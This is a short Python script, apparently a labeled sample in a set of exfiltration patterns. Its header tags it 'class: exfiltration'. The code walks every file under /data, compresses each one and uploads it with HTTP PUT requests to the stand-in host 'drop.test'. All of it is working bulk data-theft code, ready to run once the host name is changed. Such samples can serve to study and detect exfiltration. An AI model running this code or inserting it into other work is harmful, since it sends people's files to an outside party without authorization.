# class: exfiltration; possible: low medium; needs: data; style: one connection, a packed file a request
import http.client
import os
import zlib

c = http.client.HTTPConnection("drop.test", timeout=10)
for top, dirs, names in os.walk("/data"):
    for name in names:
        with open(os.path.join(top, name), "rb") as f:
            c.request("PUT", "/cache/%08x" % (hash(name) & 0xFFFFFFFF), zlib.compress(f.read()))
        c.getresponse().read()
